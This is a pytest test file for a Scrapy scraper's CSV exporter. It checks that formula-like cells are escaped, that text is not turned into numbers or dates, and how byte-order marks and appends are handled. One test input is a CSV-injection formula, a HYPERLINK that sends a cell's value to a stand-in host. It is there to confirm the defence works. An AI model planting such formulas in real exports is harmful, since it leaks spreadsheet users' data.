"""CSV files that a spreadsheet opens as they are meant, and a byte-order mark only there."""

from __future__ import annotations

import csv
import io
import json
from codecs import BOM_UTF8
from pathlib import Path
from typing import Any

import pytest
from scrapy import Spider
from scrapy.exporters import CsvItemExporter
from scrapy.utils.misc import build_from_crawler, load_object
from scrapy.utils.test import get_crawler

from tests.each_case import each_case
from zakerscraper.item_exporters import PlainCsvItemExporter
from zakerscraper.items import Article, SearchResult
from zakerscraper.settings import FEED_EXPORTERS
from zakerscraper.utils.feed_fields import as_cell


class Ours(Spider):
    name = "ours"
    item_class = Article


class Searching(Ours):
    item_class = SearchResult


def written(file: Any, *items: Any, spider: type[Spider] = Ours, format_: str = "csv", **options: Any) -> None:
    crawler = get_crawler(spider)
    crawler.spider = spider()
    exporter = build_from_crawler(load_object(FEED_EXPORTERS[format_]), crawler, file, **options)
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()


def rows(*items: Any, **options: Any) -> list[dict[str, str]]:
    file = io.BytesIO()
    written(file, *items, **options)
    return list(csv.DictReader(io.StringIO(file.getvalue().decode())))


@each_case(
    "title",
    [
        '=HYPERLINK("http://a.example/?x="&A1,"点这里")',
        "+86 号段开放",
        "-5℃ 的早晨",
        "@所有人",
        "\t=1+1",
        "\r=1",
        "＝1+1",
    ],
)
def test_no_title_is_a_formula(title: str) -> None:
    (row,) = rows(Article(id="a", url="u", title=title, tags=[title, "b"]))
    assert row["title"] == f"'{title}"
    assert row["tags"] == f"'{title},b"


@each_case(
    "cell",
    [
        "612345678901234567890123",
        "61234567890123456789e012",
        "5e0000000000000000000012",
        "007",
        "061234567890123456789012",
        "1.10",
        "2.0",
        ".5",
        "1,000",
        "(5)",
        "50%",
        "¥5",
        "TRUE",
        "5月1日",
        "2026年5月",
        "SEPT2",
        "1 May",
        "2026-05-18 11:00",
        "1-2",
        "9/11",
        "2026-05-18",
    ],
)
def test_no_text_becomes_another_number_or_a_day(cell: str) -> None:
    assert as_cell(cell) == f"'{cell}"


@each_case(
    "cell",
    [
        "",
        "河边的磨坊",
        "1+1",
        "a@b",
        "'=1",
        "2026",
        "3.14",
        "0.5",
        "1,5,7",
        "May",
        "5月的河",
        "6a0aa9f08e9f09000000002d",
        "5e1234567890123456789012",
        5,
        -5,
        "2026-05-18T11:00:00+08:00",
        None,
    ],
)
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert as_cell(cell) == cell


@pytest.mark.parametrize(("spider", "first"), [(Ours, "id"), (Searching, "title")])
def test_a_night_without_news_leaves_a_header(spider: type[Spider], first: str) -> None:
    file = io.BytesIO()
    written(file, spider=spider)
    header, *rest = file.getvalue().decode().splitlines()
    assert header.split(",")[0] == first
    assert not rest


def test_the_fields_that_a_user_wants_are_the_header() -> None:
    for fields, header in ((["title", "id"], "title,id"), ({"title": "Titel"}, "Titel")):
        file = io.BytesIO()
        written(file, Article(id="a", url="u", title="t"), fields_to_export=fields)
        assert file.getvalue().decode().splitlines()[0] == header


def test_what_is_added_to_a_file_has_no_second_header(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    for number in range(3):
        with path.open("ab") as file:
            written(file, Article(id=str(number), url="u"))
    found = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    assert [row["id"] for row in found] == ["0", "1", "2"]


def in_each_format(encoding: str) -> dict[str, bytes]:
    """Return two articles as bytes in each format that we have an exporter for."""
    files = {format_: io.BytesIO() for format_ in FEED_EXPORTERS}
    for format_, file in files.items():
        written(file, *(Article(id=id_, url="u", title="磨坊") for id_ in "ab"), format_=format_, encoding=encoding)
    return {format_: file.getvalue() for format_, file in files.items()}


@pytest.mark.parametrize("encoding", ["utf-8-sig", "UTF_8_SIG"])
def test_a_byte_order_mark_is_for_spreadsheets_alone(encoding: str) -> None:
    data = in_each_format(encoding)
    assert data.keys() >= {"csv", "json", "jsonl", "jsonlines", "jl", "xml"}
    csv_file = data.pop("csv")
    assert csv_file.startswith(BOM_UTF8)
    assert csv_file.count(BOM_UTF8) == 1
    plain = in_each_format("utf-8")
    assert data == {format_: plain[format_] for format_ in data}
    assert [item["title"] for item in json.loads(data["json"])] == ["磨坊"] * 2


def test_what_is_added_under_a_byte_order_mark_has_no_second_one(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    for number in range(2):
        with path.open("ab") as file:
            written(file, Article(id=str(number), url="u"), encoding="utf-8-sig")
    assert path.read_bytes().count(BOM_UTF8) == 1


def test_other_encodings_are_taken_as_they_are() -> None:
    assert "磨坊".encode("gbk") in in_each_format("gbk")["jsonl"]


def added(path: Path, **options: Any) -> list[dict[str, str]]:
    """Return the rows of the file *path* after one has been added to it."""
    with path.open("ab") as file:
        written(file, Article(id="new", url="u", title="标题"), **options)
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_what_is_added_to_a_file_of_an_earlier_version_has_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(b"\xef\xbb\xbftitle,id\r\nold,1")  # and nothing has ended its last line
    assert added(path) == [{"title": "old", "id": "1"}, {"title": "标题", "id": "new"}]


@pytest.mark.parametrize(
    ("header", "fields"),
    [
        ("name,price", None), ("id,id", None), ("title,id", ["id", "url"]), ("id", ["id", "url"]), ("", None),
        ("标题".encode("gbk"), None), ("id;title", None),
    ],
)  # fmt: skip
def test_nothing_is_added_to_a_file_with_other_columns(
    tmp_path: Path, header: str | bytes, fields: list[str] | None
) -> None:
    path = tmp_path / "x.csv"
    content = (header.encode() if isinstance(header, str) else header) + b"\r\n1,2\r\n"
    path.write_bytes(content)
    with pytest.raises(OSError, match="other columns"):
        added(path, fields_to_export=fields)
    assert path.read_bytes() == content


def test_a_file_with_the_chosen_columns_is_added_to(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(b"Titel;Nummer\r\nalt;1\r\n")
    with path.open("ab") as file:
        chosen = {"id": "Nummer", "title": "Titel"}
        written(file, Article(id="2", url="u", title="neu"), fields_to_export=chosen, delimiter=";")
    assert path.read_text().split() == ["Titel;Nummer", "alt;1", "neu;2"]


def test_evidence_is_there_or_nothing() -> None:
    none, some = rows(Article(id="a", url="u"), Article(id="b", url="u", evidence={"title": "h1"}))
    assert none["evidence"] == ""
    assert json.loads(some["evidence"]) == {"title": "h1"}


def test_a_spider_that_is_not_ours_gets_scrapys_own() -> None:
    crawler = get_crawler(Spider)
    crawler.spider = Spider("x")
    assert type(build_from_crawler(PlainCsvItemExporter, crawler, io.BytesIO())) is CsvItemExporter
